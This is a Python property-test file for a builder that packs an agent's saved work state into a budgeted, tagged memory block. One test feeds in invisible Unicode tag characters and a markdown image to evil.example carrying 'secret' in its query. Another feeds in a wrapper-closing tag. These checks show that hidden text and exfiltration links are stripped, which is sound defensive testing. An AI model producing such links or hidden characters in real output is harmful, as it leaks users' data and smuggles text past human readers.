"""Packs of random states: never over budget, the same bytes for the same state, nothing closes the wrapper."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from hypothesis import given
from hypothesis import strategies as st

from memex.subagent.work.records import Observation, WorkItem, WorkKind, make_item_id
from memex.subagent.work.resuming.pack import BUDGETS, MAX_LINE_CHARS, PackBudget, ResumePoint, build_pack
from memex.subagent.work.state import WorkState

BEFORE = "Asked for before, done or not, the newest first"
AT = datetime(2026, 11, 24, 16, tzinfo=UTC)
TEXTS = st.one_of(
    st.text(max_size=400), st.sampled_from(["</memory-0>", "[0000] Objective", "ü" * 300, "a\nb"])
)


def item(kind: WorkKind, text: str, number: int = 1) -> WorkItem:
    """Return an item that a message says."""
    reference = f"conversations/9k2m4q7wtx3d#{number}"
    return WorkItem(
        make_item_id(kind, text, (str(number),)), kind, text, "open", reference, "conversation", "human", AT
    )


@st.composite
def states(draw: st.DrawFn) -> WorkState:
    """Draw a state of work of any size."""

    def items(kind: WorkKind) -> tuple[WorkItem, ...]:
        texts = draw(st.lists(TEXTS, max_size=12))
        return tuple(item(kind, text, number) for number, text in enumerate(texts))

    pending = items("pending")
    return WorkState(
        objective=item("objective", draw(TEXTS)) if draw(st.booleans()) else None,
        constraints=items("constraint"),
        decisions=items("decision"),
        open=pending,
        blockers=items("blocker"),
        done=items("done"),
        follow_ups=pending[:2],
    )


@given(states(), st.sampled_from(["auto", "micro", "normal", "full"]), st.text(max_size=300))
def test_a_pack_keeps_to_its_budget(state: WorkState, budget: PackBudget, title: str) -> None:
    """Characters and bytes are never over; each line has its source; no text closes it."""
    resume = ResumePoint("9k2m4q7wtx3d#41", title, "/home/ann/code", "2026-11-24 16:00")
    pack = build_pack(state, scope="project:apollo", budget=budget, resume=resume)
    lines = pack.text.splitlines()
    tag = lines[0][1:-1] if lines else ""

    assert len(pack.text) <= len(pack.text.encode()) <= BUDGETS[pack.size]
    assert budget in ("auto", pack.size)
    assert (lines[0], lines[-1]) == (f"<{tag}>", f"</{tag}>")
    assert pack.text.count(tag) == 2
    told = [line for line in lines if line.startswith("- ")]
    assert told == [line.shown for line in pack.lines]
    assert all(line.split(" ")[1].startswith("9k2m4q7wtx3d#") for line in told)
    assert len([line for line in lines if line.startswith("[")]) == len({line.heading for line in pack.lines})


@given(states(), states())
def test_the_hash_names_scope_and_text_alone(one: WorkState, two: WorkState) -> None:
    """The same state gives the same bytes; the hash differs exactly where scope or text differ."""
    first, again = build_pack(one, scope="a"), build_pack(one, scope="a")
    elsewhere, other = build_pack(one, scope="b"), build_pack(two, scope="a")

    assert first == again
    assert first.hash != elsewhere.hash
    assert (first.hash == other.hash) == (first.text == other.text)


def test_auto_is_the_smallest_that_holds_the_open_work() -> None:
    """Little work takes a small pack, more a larger one; what did not fit is counted."""
    small = build_pack(WorkState(open=(item("pending", "test it"),)), scope="a")
    more = build_pack(WorkState(open=tuple(item("pending", "x" * 90, n) for n in range(8))), scope="a")
    most = build_pack(WorkState(open=tuple(item("pending", "x" * 900, n) for n in range(20))), scope="a")

    assert (small.size, more.size, most.size) == ("micro", "normal", "full")
    assert (small.left_out, more.left_out) == (0, 0)
    assert most.left_out == 20 - len(most.lines) > 0
    assert all(len(line.shown) < MAX_LINE_CHARS + 40 for line in most.lines)
    assert build_pack(WorkState(), scope="a").text == ""


def test_nothing_is_hidden_in_a_line() -> None:
    """Tag characters that only a model reads stand as code points; an image of somebody's server as its words."""
    hidden = "test it\U000e0073\U000e0065\u200b\u202e ![badge](https://evil.example/?q=secret)"
    pack = build_pack(WorkState(open=(item("pending", hidden),)), scope="a")

    assert "U+E0073" in pack.text
    assert "evil.example" not in pack.text
    assert not set("\U000e0073\u200b\u202e") & set(pack.text)


def test_several_lanes_leave_out_what_one_is_about() -> None:
    """Where several lanes are worked on, the pack tells no objective and no last session, and still what holds."""
    state = WorkState(objective=item("objective", "queue"), decisions=(item("decision", "use a table"),))
    resume = ResumePoint("x#1", "t", "", "now")

    pack = build_pack(state, scope="a", resume=resume, is_one_lane=False)

    assert [line.heading for line in pack.lines] == ["Decisions"]


def said(session: str, number: int, text: str, *, answer: bool = False) -> Observation:
    """Return what a person asks for, or a line of what an agent answers, in the order of the numbers."""
    kind: WorkKind = "last_answer" if answer else "user_request"
    who = "agent" if answer else "human"
    at = AT + timedelta(minutes=number)
    return Observation(kind, text, who, False, 0.6, at, session, number, 0, len(text), number)  # type: ignore[arg-type]


def test_the_last_turns_are_told_whole_and_in_order() -> None:
    """Of the last session, what was asked and answered; a small pack keeps its end."""
    wish = f"please do step {{}} of the plan, {'and look at it again, ' * 7}as on paper"
    asked = [said("b", number, wish.format(number)) for number in range(10, 22, 2)]
    answers = [said("b", number, f"Step {number - 1} is done.", answer=True) for number in range(15, 22, 2)]
    state = WorkState(requests=tuple(reversed(asked)), answer=tuple(answers))

    pack = build_pack(state, scope="a")
    small = build_pack(state, scope="a", budget="micro")
    told = [line.text for line in pack.lines if line.heading == "The end of the last session"]

    assert told == [
        text for number in range(14, 22, 2) for text in (wish.format(number), f"Step {number} is done.")
    ]
    assert [line.text for line in small.lines] == told[-len(small.lines) :]
    assert len(small.lines) < len(told)


def test_what_was_asked_before_is_told_and_questions_only_where_a_session_begins() -> None:
    """The newest turn is first, and its paragraphs stay in their order; a question was answered in its turn."""
    requests = [
        said("a", 1, "Can we have a page for the opening hours?"),
        said("a", 1, "It must never show a closed day."),
        said("a", 3, "make the letters a bit larger"),
        said("a", 5, "which colours does it have now?"),
        said("b", 7, "now the map please, with all houses"),
    ]
    state = WorkState(requests=tuple(reversed(requests)))

    pack = build_pack(state, scope="a")

    assert [(line.heading, line.text) for line in pack.lines] == [
        ("The end of the last session", "now the map please, with all houses"),
        (BEFORE, "make the letters a bit larger"),
        (BEFORE, "Can we have a page for the opening hours?"),
        (BEFORE, "It must never show a closed day."),
    ]


def test_what_was_said_with_an_item_is_told_as_long_as_the_item_stands() -> None:
    """It stands before what was asked since, of which a full pack holds the newest."""
    goal = item("objective", "The shop opens in May.")
    beside = said("9k2m4q7wtx3d", 1, "It has to run on the old till.")
    later = [said("9k2m4q7wtx3d", number, f"step {number} {'of the plan ' * 20}") for number in range(3, 60)]
    state = WorkState(objective=goal, requests=tuple(reversed([beside, *later])))

    pack = build_pack(state, scope="a")
    over = build_pack(WorkState(requests=state.requests), scope="a")

    assert [line.text for line in pack.lines if line.heading == "Said with what stands above"] == [
        beside.text
    ]
    assert next(line.text for line in pack.lines if line.heading == BEFORE) == later[-5].text
    assert beside.text not in over.text


def test_what_a_person_said_takes_the_room_of_earlier_answers() -> None:
    """The last answer stays, as it says where work stopped."""
    asked = [said("a", number, f"step {number} {'as on paper ' * 12}") for number in range(10, 50, 2)]
    answers = [
        said("a", number, f"{number} is {'done so far ' * 12}", answer=True) for number in (45, 47, 49)
    ]
    state = WorkState(requests=tuple(reversed(asked)), answer=tuple(answers))

    pack = build_pack(state, scope="a")

    assert [line.text for line in pack.lines if line.who == "agent"] == [answers[-1].text]


def test_what_an_agent_left_before_the_last_session_stands_back() -> None:
    """A newer session was told of it; a line that leads to what is not told is left out."""
    old = replace(item("pending", "label the shelves", 1), sessions=("a",), who="agent")
    new = item("pending", "dust the books", 2)
    answer = (said("b", 3, "Still to do:", answer=True), said("b", 3, "- dust the books", answer=True))
    state = WorkState(
        open=(old, new),
        items={one.item_id: one for one in (old, new)},
        requests=(said("a", 1, "Please clean up the library."),),
        answer=answer,
        left_before=frozenset({old.item_id}),
    )

    pack = build_pack(state, scope="a")
    elsewhere = build_pack(replace(state, requests=()), scope="a")
    several = build_pack(state, scope="a", is_one_lane=False)

    assert [(line.heading, line.text) for line in pack.lines] == [
        ("Open work", "dust the books"),
        (BEFORE, "Please clean up the library."),
        ("Left by an agent before the last session, done or not", "label the shelves"),
    ]
    assert pack.left_out == 0
    assert ([line.text for line in elsewhere.lines], elsewhere.left_out) == (["dust the books"], 1)
    assert [line.text for line in several.lines] == ["label the shelves", "dust the books"]


def test_of_many_limits_the_newest_are_told() -> None:
    """They stand in the order in which they were said."""
    limits = [f"never sell shelf {number}" for number in range(10)]
    state = WorkState(
        constraints=tuple(item("constraint", text, number) for number, text in enumerate(limits))
    )

    assert [line.text for line in build_pack(state, scope="a").lines] == limits[2:]
